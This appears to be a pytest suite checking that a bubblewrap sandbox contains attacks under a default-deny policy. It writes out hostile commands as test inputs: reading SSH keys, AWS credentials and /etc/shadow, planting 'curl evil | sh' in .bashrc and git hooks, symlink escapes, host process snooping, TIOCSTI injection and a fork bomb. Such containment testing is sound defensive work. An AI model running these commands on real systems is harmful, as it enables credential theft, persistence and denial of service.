"""Real attacks against a real bwrap sandbox under the default deny policy.

Each test asserts the attack is contained (checked on the host where it matters) and,
where a blocked operation is observable, the structured violation sandlot reports.
Secrets are fake, created by the fixtures; /etc/shadow is the one real file attacked,
and its content never reaches the test (it is masked).
"""

from __future__ import annotations

import os
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from sandlot.policy import FilesystemPolicy, Limits, NetworkMode, NetworkPolicy, Policy
from sandlot.results import ViolationKind
from sandlot_bwrap.provider import BwrapSandbox

sys.path.insert(0, str(Path(__file__).parent))

from bwrap_kit import (
    FAKE_AWS,
    FAKE_ENV,
    FAKE_KEY,
    host_processes_matching,
    make_client,
    requires_bwrap,
)

pytestmark = requires_bwrap


def assert_violation(result: Any, kind: ViolationKind, resource_part: str = "") -> None:
    assert result.violation is not None, f"no violation reported for: {result.output}"
    assert result.violation.kind is kind, result.violation
    assert resource_part in result.violation.resource, result.violation


@pytest.fixture
def host_sleeper() -> Iterator[subprocess.Popen[bytes]]:
    """A host process with a fake secret in its environment."""
    proc = subprocess.Popen(["sleep", "300"], env={"PATH": "/usr/bin:/bin", "HOST_SECRET": FAKE_KEY})
    try:
        yield proc
    finally:
        proc.kill()
        proc.wait()


# ----------------------------------------------------------------------------- secrets


def test_read_ssh_key_is_denied_and_names_the_path(sandbox: Any, home: Path) -> None:
    key = home / ".ssh" / "id_rsa"
    result = sandbox.exec(f"cat {key}")
    assert result.exit_code != 0
    assert FAKE_KEY not in result.output
    assert "Permission denied" in result.stderr and str(key) in result.stderr  # an error, not an empty read
    assert_violation(result, ViolationKind.FILESYSTEM, ".ssh")
    listing = sandbox.exec(f"ls -la {home / '.ssh'}")
    assert listing.exit_code != 0 and "id_rsa" not in listing.stdout
    assert_violation(listing, ViolationKind.FILESYSTEM, ".ssh")


def test_read_through_python_and_other_credentials(sandbox: Any, home: Path) -> None:
    result = sandbox.exec(f"python3 -c 'print(open(\"{home}/.aws/credentials\").read())'")
    assert FAKE_AWS not in result.output
    assert "PermissionError" in result.stderr
    assert_violation(result, ViolationKind.FILESYSTEM, ".aws")


def test_read_etc_shadow_is_denied(sandbox: Any) -> None:
    result = sandbox.exec("cat /etc/shadow")
    assert result.exit_code != 0
    assert "root:" not in result.stdout
    assert_violation(result, ViolationKind.FILESYSTEM, "/etc/shadow")


def test_env_files_in_the_workdir_are_masked(sandbox: Any, workdir: Path) -> None:
    result = sandbox.exec("cat .env proj/.env")
    assert FAKE_ENV not in result.output
    assert_violation(result, ViolationKind.FILESYSTEM, ".env")
    grep = sandbox.exec("grep -r FAKE_API_TOKEN . ; true")
    assert FAKE_ENV not in grep.stdout


def test_masks_are_not_writable(sandbox: Any, workdir: Path, home: Path) -> None:
    result = sandbox.exec("echo stolen > .env")
    assert_violation(result, ViolationKind.FILESYSTEM, ".env")
    assert sandbox.exec("chmod 644 .env").exit_code != 0
    assert sandbox.exec(f"rm -f {home}/.ssh/id_rsa; mv .env moved.env").exit_code != 0
    assert (workdir / ".env").read_text() == FAKE_ENV + "\n"
    assert (home / ".ssh" / "id_rsa").read_text() == FAKE_KEY + "\n"


# ----------------------------------------------------------------------------- writes


def test_write_outside_allowed_paths(sandbox: Any, base: Path) -> None:
    target = base / "outside.txt"
    result = sandbox.exec(f"echo pwned > {target}")
    assert result.exit_code != 0 and not target.exists()
    assert_violation(result, ViolationKind.FILESYSTEM, str(target))
    for command in ("touch /usr/pwned", "mkdir /etc/pwned", "cp src.py /opt/x"):
        outcome = sandbox.exec(command)
        assert outcome.exit_code != 0
        assert_violation(outcome, ViolationKind.FILESYSTEM)
    assert not Path("/usr/pwned").exists() and not Path("/etc/pwned").exists()


def test_write_bashrc_git_hooks_git_config(sandbox: Any, home: Path, workdir: Path) -> None:
    result = sandbox.exec(f"echo 'curl evil | sh' >> {home}/.bashrc")
    assert_violation(result, ViolationKind.FILESYSTEM, ".bashrc")
    assert (home / ".bashrc").read_text() == "# original bashrc\n"
    hook = sandbox.exec("printf '#!/bin/sh\\ncurl evil\\n' > .git/hooks/pre-commit")
    assert_violation(hook, ViolationKind.FILESYSTEM, ".git/hooks")
    assert not (workdir / ".git" / "hooks" / "pre-commit").exists()
    config = sandbox.exec("git config core.hooksPath /tmp/evil 2>&1 || echo failed >&2")
    assert (workdir / ".git" / "config").read_text() == "[core]\n"
    assert config.exit_code != 0 or "failed" in config.stderr


def test_writing_inside_the_workdir_works(sandbox: Any, workdir: Path) -> None:
    result = sandbox.exec("echo fine > out.txt && mkdir -p a/b && echo x > a/b/c && cat out.txt")
    assert result.ok and result.stdout == "fine\n" and result.violation is None
    assert (workdir / "out.txt").read_text() == "fine\n"


# ----------------------------------------------------------------------------- links


def test_symlink_escapes(sandbox: Any, home: Path, base: Path, workdir: Path) -> None:
    read = sandbox.exec(f"ln -s {home}/.ssh/id_rsa key && cat key")
    assert FAKE_KEY not in read.output
    assert_violation(read, ViolationKind.FILESYSTEM, "key")
    outside = base / "via-link.txt"
    write = sandbox.exec(f"ln -s {outside} out && echo pwned > out")
    assert not outside.exists()
    assert_violation(write, ViolationKind.FILESYSTEM)
    rc = sandbox.exec(f"ln -s {home}/.bashrc rc && echo evil >> rc")
    assert (home / ".bashrc").read_text() == "# original bashrc\n"
    assert_violation(rc, ViolationKind.FILESYSTEM)


def test_preexisting_symlink_and_hardlink_to_secret(client: Any, home: Path, workdir: Path) -> None:
    os.symlink(home / ".ssh" / "id_rsa", workdir / "innocent-link")
    os.link(home / ".ssh" / "id_rsa", workdir / "notes.txt")  # same filesystem (/var/tmp)
    with client.create(workdir=workdir) as box:
        for name in ("innocent-link", "notes.txt"):
            result = box.exec(f"cat {name}")
            assert FAKE_KEY not in result.output, name
            assert result.exit_code != 0
            assert_violation(result, ViolationKind.FILESYSTEM, name)
        explained = box.native.explain()
        assert "hardlink" in explained
        # A new hard link to a masked file cannot be made either.
        link = box.exec(f"ln {home}/.ssh/id_rsa stolen && cat stolen")
        assert FAKE_KEY not in link.output and not (workdir / "stolen").exists()


def test_ancestor_rename_keeps_the_mask_and_is_reported(sandbox: Any, workdir: Path) -> None:
    result = sandbox.exec("mv proj proj2 && mkdir proj && cat proj2/.env; cat proj/.env")
    assert FAKE_ENV not in result.output
    assert_violation(result, ViolationKind.FILESYSTEM, "proj2/.env")
    assert "moved" in result.violation.reason
    # The user's secret was only renamed (by the command), never deleted or quarantined by sandlot.
    assert (workdir / "proj2" / ".env").read_text() == FAKE_ENV + "\n"
    again = sandbox.exec("cat proj2/.env")
    assert FAKE_ENV not in again.output


def test_deny_glob_file_created_during_run_is_quarantined(sandbox: Any, base: Path, workdir: Path) -> None:
    result = sandbox.exec("mkdir -p svc && echo 'TOKEN=x' > svc/.env && echo done")
    assert result.ok
    assert_violation(result, ViolationKind.FILESYSTEM, "svc/.env")
    assert "quarantined" in result.violation.reason
    assert not (workdir / "svc" / ".env").exists()
    assert any(p.name.endswith("svc__.env") for p in (base / "quarantine").rglob("*"))
    assert sandbox.exec("echo next").violation is None  # reported once


def test_deny_created_remove_and_report_options(home: Path, workdir: Path) -> None:
    with make_client(home, on_deny_created="remove").create(workdir=workdir) as box:
        result = box.exec("echo a > x.env.local; echo b > .envrc")
        assert_violation(result, ViolationKind.FILESYSTEM, ".envrc")
        assert not (workdir / ".envrc").exists()
    with make_client(home, on_deny_created="report").create(workdir=workdir) as box:
        result = box.exec("echo '{}' > secrets.json")
        assert_violation(result, ViolationKind.FILESYSTEM, "secrets.json")
        assert (workdir / "secrets.json").exists()


def test_missing_deny_paths_leave_no_litter_and_symlinked_deny_paths_work(
    home: Path, workdir: Path, base: Path
) -> None:
    real_aws = base / "real-aws"
    real_aws.mkdir()
    (real_aws / "credentials").write_text(FAKE_AWS + "\n")
    (home / ".aws" / "credentials").unlink()
    (home / ".aws").rmdir()
    (home / ".aws").symlink_to(real_aws)  # a deny path that is itself a symlink
    (home / ".kube").symlink_to(base / "nowhere")  # ... and a dangling one
    policy = Policy(limits=Limits(timeout=20))
    policy = Policy(
        filesystem=policy.filesystem.__class__(read_write=(".",), deny=("./not-there", "./later-secret")),
        limits=policy.limits,
    )
    with make_client(home).create(workdir=workdir, policy=policy) as box:
        result = box.exec(f"cat {home}/.aws/credentials; cat {real_aws}/credentials")
        assert FAKE_AWS not in result.output
        assert_violation(result, ViolationKind.FILESYSTEM, "aws")
        assert box.exec("echo ok").stdout == "ok\n"
        created = box.exec("echo s > later-secret")
        assert_violation(created, ViolationKind.FILESYSTEM, "later-secret")
    assert not (workdir / "not-there").exists()
    assert not (base / "nowhere").exists()
    assert not (workdir / "later-secret").exists()  # quarantined


# ----------------------------------------------------------------------------- network


@pytest.fixture
def tcp_server() -> Iterator[tuple[int, list[bytes]]]:
    srv = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    srv.bind(("127.0.0.1", 0))
    srv.listen(5)
    srv.settimeout(0.2)
    received: list[bytes] = []
    stop = threading.Event()

    def serve() -> None:
        while not stop.is_set():
            try:
                conn, _ = srv.accept()
            except OSError:
                continue
            with conn:
                conn.settimeout(2)
                try:
                    received.append(conn.recv(1024))
                    conn.sendall(b"HTTP/1.0 200 OK\r\nContent-Length: 6\r\n\r\nhello\n")
                except OSError:
                    pass

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    try:
        yield srv.getsockname()[1], received
    finally:
        stop.set()
        thread.join()
        srv.close()


def test_tcp_udp_dns_egress_blocked(sandbox: Any) -> None:
    tcp = sandbox.exec("curl -sS -m 5 http://93.184.216.34/")
    assert tcp.exit_code != 0
    assert_violation(tcp, ViolationKind.NETWORK, "93.184.216.34")
    send = 'socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("8.8.8.8", 53))'
    udp = sandbox.exec(f"python3 -c 'import socket; {send}'")
    assert udp.exit_code != 0 and "Network is unreachable" in udp.stderr
    assert_violation(udp, ViolationKind.NETWORK, "8.8.8.8")
    dns = sandbox.exec("curl -sS -m 5 https://example.com/")
    assert_violation(dns, ViolationKind.NETWORK, "example.com")
    py_dns = sandbox.exec("python3 -c 'import socket; socket.getaddrinfo(\"example.org\", 443)'")
    assert_violation(py_dns, ViolationKind.NETWORK, "example.org")


def test_host_loopback_service_unreachable(sandbox: Any, tcp_server: tuple[int, list[bytes]]) -> None:
    port, received = tcp_server
    result = sandbox.exec(f"curl -sS -m 5 http://127.0.0.1:{port}/")
    assert result.exit_code != 0 and "hello" not in result.stdout
    assert_violation(result, ViolationKind.NETWORK, f"127.0.0.1:{port}")
    time.sleep(0.3)
    assert received == []


def test_host_unix_socket_unreachable(sandbox: Any, base: Path) -> None:
    path = base / "agent.sock"
    srv = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    srv.bind(str(path))
    srv.listen(1)
    srv.settimeout(0.5)
    try:
        result = sandbox.exec(
            "python3 -c 'import socket,sys; s=socket.socket(socket.AF_UNIX); s.connect(sys.argv[1]); "
            f'print("connected")\' {path}'
        )
        assert "connected" not in result.stdout
        assert "Address family not supported" in result.stderr
        assert_violation(result, ViolationKind.NETWORK, f"unix:{path}")
        with pytest.raises(TimeoutError):
            srv.accept()
        curl = sandbox.exec(f"curl -sS --unix-socket {path} http://x/")
        assert curl.exit_code != 0
    finally:
        srv.close()


def test_network_all_is_host_network_but_unix_sockets_stay_blocked(
    client: Any, workdir: Path, tcp_server: tuple[int, list[bytes]], base: Path
) -> None:
    port, _ = tcp_server
    policy = Policy(network=NetworkPolicy(mode=NetworkMode.ALL), limits=Limits(timeout=20))
    with client.create(workdir=workdir, policy=policy) as box:
        result = box.exec(f"curl -sS -m 5 http://127.0.0.1:{port}/")
        assert result.ok and result.stdout == "hello\n", result.output
        unix = box.exec("python3 -c 'import socket; socket.socket(socket.AF_UNIX)'")
        assert "Address family not supported" in unix.stderr


# ----------------------------------------------------------------------------- processes


def test_host_proc_environ_and_root_unreachable(sandbox: Any, host_sleeper: subprocess.Popen[bytes]) -> None:
    pid = host_sleeper.pid
    result = sandbox.exec(f"cat /proc/{pid}/environ")
    assert FAKE_KEY not in result.output and result.exit_code != 0
    assert_violation(result, ViolationKind.PROCESS, f"pid {pid}")
    root = sandbox.exec(f"ls /proc/{pid}/root/ && echo pwned > /proc/{pid}/root/tmp/x")
    assert root.exit_code != 0
    assert_violation(root, ViolationKind.PROCESS, f"pid {pid}")
    # The sandbox's own pid 1 (bwrap) was started with a scrubbed environment.
    own = sandbox.exec("cat /proc/1/environ | tr '\\0' '\\n'")
    assert "HOST_SECRET" not in own.stdout and FAKE_KEY not in own.stdout


def test_ptrace_and_kill_host_process(sandbox: Any, host_sleeper: subprocess.Popen[bytes]) -> None:
    pid = host_sleeper.pid
    trace = sandbox.exec(f"strace -p {pid} -e trace=none", timeout=10)
    assert trace.exit_code != 0 and not trace.timed_out
    assert_violation(trace, ViolationKind.PROCESS, f"pid {pid}")
    kill = sandbox.exec(f"kill -9 {pid}")
    assert kill.exit_code != 0
    assert_violation(kill, ViolationKind.PROCESS, f"pid {pid}")
    assert host_sleeper.poll() is None  # still alive
    # "kill every process I may signal" reaches only the sandbox's own processes.
    sandbox.exec("kill -9 -1")
    assert host_sleeper.poll() is None
    assert sandbox.exec("echo recovered").stdout == "recovered\n"


@pytest.mark.parametrize(
    ("command", "tool"),
    [
        ("mount -t tmpfs none /mnt", "mount"),
        ("mount -o remount,rw /", "mount"),
        ("umount /etc/shadow", "umount"),
        ("mknod ./disk b 8 0", "mknod"),
        ("hostname pwned", "hostname"),
        ("unshare --user --map-root-user id", "unshare"),
        ("unshare --mount --pid --fork true", "unshare"),
        ("su -c id root", "su"),
    ],
)
def test_privileged_operations_fail(sandbox: Any, command: str, tool: str) -> None:
    before = socket.gethostname()
    result = sandbox.exec(command)
    assert result.exit_code != 0, result.output
    assert_violation(result, ViolationKind.PROCESS, tool)
    assert socket.gethostname() == before
    still = sandbox.exec("cat /etc/shadow; id -u; cat /proc/self/status | grep CapEff")
    assert "root:" not in still.stdout
    assert "1000\n" in still.stdout and "0000000000000000" in still.stdout


def test_no_capabilities_and_unprivileged_uid(sandbox: Any) -> None:
    result = sandbox.exec(
        "id -u; id -g; grep -E '^Cap(Inh|Prm|Eff|Bnd|Amb)' /proc/self/status; cat /proc/1/status | grep CapEff"
    )
    lines = result.stdout.split()
    assert lines[0] == "1000" and lines[1] == "1000"
    assert result.stdout.count("0000000000000000") == 6
    assert sandbox.exec("hostname").stdout == "sandlot\n"


def test_setuid_binaries_do_not_elevate(sandbox: Any, workdir: Path) -> None:
    # A setuid-root copy made by the host (root-owned when the tests run as root).
    target = workdir / "suid-id"
    target.write_bytes(Path("/usr/bin/id").read_bytes())
    os.chmod(target, 0o4755)
    assert sandbox.exec("./suid-id -u").stdout == "1000\n"
    assert sandbox.exec("newgrp root </dev/null; id -u").stdout.splitlines()[-1] == "1000"
    assert sandbox.exec("grep NoNewPrivs /proc/self/status").stdout.split()[-1] == "1"


def test_tiocsti_injection_blocked(sandbox: Any) -> None:
    code = "import fcntl, termios, sys; fcntl.ioctl(sys.stdout.fileno(), termios.TIOCSTI, b'x')"
    result = sandbox.exec(f'python3 -c "{code}"')
    assert result.exit_code != 0 and "Operation not permitted" in result.stderr
    assert_violation(result, ViolationKind.PROCESS, "TIOCSTI")
    assert sandbox.exec("ps -o sid= -p $$; ps -o pid= -p 1").ok  # own session (--new-session)


def test_environment_secrets_not_inherited(client: Any, workdir: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SANDLOT_TEST_SECRET", FAKE_KEY)
    with client.create(workdir=workdir) as box:
        result = box.exec("env; cat /proc/1/environ /proc/self/environ | tr '\\0' '\\n'")
        assert FAKE_KEY not in result.output and "SANDLOT_TEST_SECRET" not in result.output


# ----------------------------------------------------------------------------- resources


@pytest.mark.slow
def test_fork_bomb_contained(sandbox: Any) -> None:
    # The bomb runs in the background; the foreground sleep keeps the command alive until the timeout.
    result = sandbox.exec("(:(){ :|:& };:); sleep 30", timeout=5)
    assert result.timed_out
    assert_violation(result, ViolationKind.RESOURCE, "processes")
    after = sandbox.exec("echo alive; ps -e --no-headers | wc -l")
    assert after.stdout.startswith("alive\n")
    assert int(after.stdout.split()[-1]) < 10


def test_memory_bomb_contained(sandbox: Any) -> None:
    result = sandbox.exec("python3 -c 'x = bytearray(4 * 1024**3)'")
    assert result.exit_code != 0 and "MemoryError" in result.stderr
    assert_violation(result, ViolationKind.RESOURCE, "memory")


def test_disk_fill_contained(sandbox: Any, workdir: Path) -> None:
    result = sandbox.exec("dd if=/dev/zero of=big bs=1M count=200")
    assert result.exit_code == 153
    assert_violation(result, ViolationKind.RESOURCE, "file_size")
    assert (workdir / "big").stat().st_size <= 16 * 1024 * 1024  # ATTACK_LIMITS.file_size_mb
    tmp = sandbox.exec("for i in 1 2 3 4; do head -c 12M /dev/zero > /tmp/fill$i || exit 1; done")
    assert tmp.exit_code != 0 and "No space left on device" in tmp.stderr
    assert_violation(tmp, ViolationKind.RESOURCE, "disk")


def test_cpu_and_open_files_limits(client: Any, workdir: Path) -> None:
    policy = Policy(limits=Limits(timeout=30, cpu_seconds=1, open_files=32))
    with client.create(workdir=workdir, policy=policy) as box:
        cpu = box.exec("python3 -c 'while True: pass'")
        assert cpu.exit_code == 152
        assert_violation(cpu, ViolationKind.RESOURCE, "cpu")
        files = box.exec("python3 -c 'fs=[open(\"/dev/null\") for _ in range(100)]'")
        assert "Too many open files" in files.stderr
        assert_violation(files, ViolationKind.RESOURCE, "open_files")


def test_infinite_output_is_bounded(sandbox: Any) -> None:
    result = sandbox.exec("yes", timeout=2)
    assert result.timed_out and result.truncated
    assert len(result.stdout_bytes) <= 64 * 1024  # ATTACK_LIMITS.output_bytes
    assert sandbox.exec("echo next").stdout == "next\n"


def test_background_and_setsid_survivors_killed_on_timeout(sandbox: Any) -> None:
    result = sandbox.exec("sleep 771 & setsid sleep 772 & (setsid sh -c 'sleep 773 &'); sleep 60", timeout=1)
    assert result.timed_out
    deadline = time.monotonic() + 3
    while time.monotonic() < deadline and any(host_processes_matching(f"sleep 77{i}") for i in (1, 2, 3)):
        time.sleep(0.05)
    for i in (1, 2, 3):
        assert host_processes_matching(f"sleep 77{i}") == []
    assert sandbox.exec("echo fine").stdout == "fine\n"


def test_closing_the_sandbox_kills_everything(client: Any, workdir: Path) -> None:
    box = client.create(workdir=workdir)
    try:
        box.exec("setsid sleep 781 & sleep 782 &")
        # generous bounds (the loops end as soon as the condition holds): CI machines are loaded
        deadline = time.monotonic() + 15
        while time.monotonic() < deadline and not host_processes_matching("sleep 781"):
            time.sleep(0.02)
        assert host_processes_matching("sleep 781")
    finally:
        # (closed even when the assertion above fails: a sandbox left open keeps its sleeps alive, and the same test
        # run again as the unprivileged user would find them)
        box.close()
    deadline = time.monotonic() + 15
    while time.monotonic() < deadline and host_processes_matching("sleep 78"):
        time.sleep(0.05)
    assert host_processes_matching("sleep 781") == [] and host_processes_matching("sleep 782") == []


def test_dying_parent_takes_the_sandbox_down(home: Path, workdir: Path) -> None:
    """--die-with-parent: a crashed host process leaves no sandbox behind."""
    script = (
        "import os, sys\n"
        "from sandlot.api import Sandlot\nfrom sandlot.config import Config\n"
        f"client = Sandlot(Config(provider='bwrap', providers={{'bwrap': {{'home': {str(home)!r}}}}}))\n"
        f"box = client.create(workdir={str(workdir)!r})\n"
        "box.exec('setsid sleep 791 &')\n"
        "os.kill(os.getpid(), 9)\n"
    )
    subprocess.run([sys.executable, "-c", script], timeout=60, check=False)
    deadline = time.monotonic() + 5
    while time.monotonic() < deadline and host_processes_matching("sleep 791"):
        time.sleep(0.05)
    assert host_processes_matching("sleep 791") == []


def test_rebuilt_sandbox_is_reported(sandbox: Any) -> None:
    sandbox.exec("export KEEP=1")
    died = sandbox.exec("kill -9 $$")
    assert died.state_lost_after
    after = sandbox.exec("echo ${KEEP:-unset}")
    assert after.state_lost_before and after.stdout == "unset\n"


def test_symlinked_read_write_entry_does_not_widen_writes(home: Path, workdir: Path, base: Path) -> None:
    """A planted `./build -> outside` must not make `read_write = ["./build"]` bind the outside target."""
    outside = base / "outside-dir"
    outside.mkdir()
    (workdir / "build").symlink_to(outside)
    policy = Policy(filesystem=FilesystemPolicy(read_write=(".", "./build")), limits=Limits(timeout=20))
    with make_client(home).create(workdir=workdir, policy=policy) as box:
        result = box.exec("echo pwned > build/x")
        assert result.exit_code != 0
        assert_violation(result, ViolationKind.FILESYSTEM)
        assert isinstance(box, BwrapSandbox) and "not bound" in box.native.explain()
    assert not (outside / "x").exists()


def test_symlinked_git_hooks_stay_read_only(home: Path, workdir: Path) -> None:
    (workdir / ".git" / "hooks").rmdir()
    (workdir / "hooks-dir").mkdir()
    (workdir / ".git" / "hooks").symlink_to(workdir / "hooks-dir")
    with make_client(home).create(workdir=workdir) as box:
        result = box.exec("echo evil > .git/hooks/pre-commit")
        assert result.exit_code != 0
    assert not (workdir / "hooks-dir" / "pre-commit").exists()


def test_created_secret_hidden_by_resetting_mtime_is_still_found(sandbox: Any, workdir: Path) -> None:
    sandbox.exec("mkdir -p deep/er && echo warm-up")
    result = sandbox.exec(
        "old=$(stat -c %Y deep/er); echo T=1 > deep/er/.env.production; touch -m -d @$old deep/er; echo hidden"
    )
    assert_violation(result, ViolationKind.FILESYSTEM, "deep/er/.env.production")
    assert not (workdir / "deep" / "er" / ".env.production").exists()


@pytest.mark.slow
@pytest.mark.skipif(os.geteuid() != 0, reason="a memory cgroup needs root; unprivileged: RLIMIT_AS per process only")
def test_memory_bomb_across_processes_contained_by_the_memory_cgroup(client: Any, workdir: Path) -> None:
    policy = Policy(limits=Limits(timeout=60, memory_mb=256, processes=64))
    with client.create(workdir=workdir, policy=policy) as box:
        # Eight processes of 200 MiB each: every one is under RLIMIT_AS, their sum is not.
        bomb = "import time; x = b'1' * (200 * 1024 * 1024); time.sleep(3)"
        result = box.exec(f'for i in 1 2 3 4 5 6 7 8; do python3 -c "{bomb}" & done; wait')
        assert_violation(result, ViolationKind.RESOURCE, "memory")
        assert "memory cgroup" in result.violation.reason
        assert box.exec("echo alive").stdout == "alive\n"
